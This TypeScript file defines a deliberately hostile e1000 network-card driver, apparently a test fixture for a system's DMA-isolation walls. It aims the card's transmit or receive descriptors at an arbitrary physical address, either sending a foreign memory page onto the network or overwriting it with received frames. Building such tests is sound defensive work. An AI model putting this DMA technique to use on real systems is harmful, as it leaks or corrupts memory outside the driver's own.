/**
 * A hostile driver: brings an 82545EM up as an honest one does, then has the card reach a page that is not its own.
 * The manifest's `options` say how: `access` is `read` (the card sends what is there, behind `header`) or `write`
 * (the card puts there what it receives); `address` is the page's. Runs from a folder of its own, with the honest
 * driver below it: see `src/walls/dma_attempts.ts`.
 */
import { defineDriver, type Device, type NetConfig, type NetPort, sleep } from "../../../driver/mod.ts";
// deno-lint-ignore ring/driver-imports -- where it runs, this is in its own folder
import e1000 from "../../../../drivers/e1000/driver.ts";
// deno-lint-ignore ring/driver-imports -- where it runs, this is in its own folder
import { REG, RX_DESC, TX, TX_DESC } from "../../../../drivers/e1000/registers.ts";

/** Bytes of the page that are sent. */
const TAKEN = 1024;
/** Descriptors of a ring: the fewest that the card knows. */
const SLOTS = 8;
/** Where the header is in the memory of the attack, behind the ring. */
const HEADER_AT = 256;
/** Time in which the card ends what it is doing, milliseconds. */
const REST = 20;

interface Options {
  access: "read" | "write";
  /** Hexadecimal, with `0x`. */
  address: string;
  /** Hexadecimal bytes that come before what is sent. */
  header: string;
}

async function bringUp(device: Device, port: NetPort) {
  const regs = device.bar(0, REG);
  const memory = device.dma(4096, { align: 128 });
  const card = await e1000.bringUp(device, port);
  return { card, regs, memory, port, options: device.options as unknown as Options, done: false };
}

type State = Awaited<ReturnType<typeof bringUp>>;

/** Once the interface is up, so that the card sends and receives. */
async function configure(state: State, config: NetConfig): Promise<void> {
  await e1000.configure(state.card, config);
  if (!config.up || state.done) return;
  state.done = true;
  if (state.options.access === "read") await send(state);
  else await receive(state);
}

/** Low and high 32 bits of the page's address. */
function target({ options }: State): [number, number] {
  const address = BigInt(options.address);
  return [Number(address & 0xffffffffn), Number(address >> 32n)];
}

/** A frame of two parts: a header of ours, and what is not. */
async function send(state: State): Promise<void> {
  const { regs, memory, options } = state;
  const header = Uint8Array.fromHex(options.header);
  memory.bytes.set(header, HEADER_AT);
  const { EN, PSP, CT, COLD } = REG.TCTL;
  regs.write(REG.TCTL, 0);
  await sleep(REST);
  regs.write(REG.TDBAL, memory.low);
  regs.write(REG.TDBAH, memory.high);
  regs.write(REG.TDLEN, SLOTS * TX_DESC.size);
  regs.write(REG.TDH, 0);
  regs.write(REG.TDT, 0);
  const [low, high] = target(state);
  const command = TX.DATA | TX.DEXT | TX.IFCS;
  memory.words.set([memory.low + HEADER_AT, memory.high, command | header.length, 0]);
  memory.words.set([low, high, command | TX.EOP | TX.RS | TAKEN, 0], TX_DESC.words);
  regs.write(REG.TCTL, EN.mask | PSP.mask | CT.of(15) | COLD.of(64));
  regs.write(REG.TDT, 2);
}

/** A ring whose buffers are all what is not ours. */
async function receive(state: State): Promise<void> {
  const { regs, memory } = state;
  const rctl = regs.read(REG.RCTL);
  regs.write(REG.RCTL, rctl & ~REG.RCTL.EN.mask);
  await sleep(REST);
  const [low, high] = target(state);
  for (let slot = 0; slot < SLOTS; slot++) memory.words.set([low, high, 0, 0], slot * RX_DESC.words);
  regs.write(REG.RDBAL, memory.low);
  regs.write(REG.RDBAH, memory.high);
  regs.write(REG.RDLEN, SLOTS * RX_DESC.size);
  regs.write(REG.RDH, 0);
  regs.write(REG.RDT, SLOTS - 1);
  regs.write(REG.RCTL, rctl);
}

function interrupt({ card }: State, vectors: number): void {
  e1000.interrupt(card, vectors);
}

/** The rings are not the honest driver's any more: everything is seen, and left. */
function poll({ port: { tx, rx } }: State): boolean {
  tx.available();
  rx.available();
  return false;
}

export default defineDriver({ class: "net", bringUp, configure, interrupt, poll });
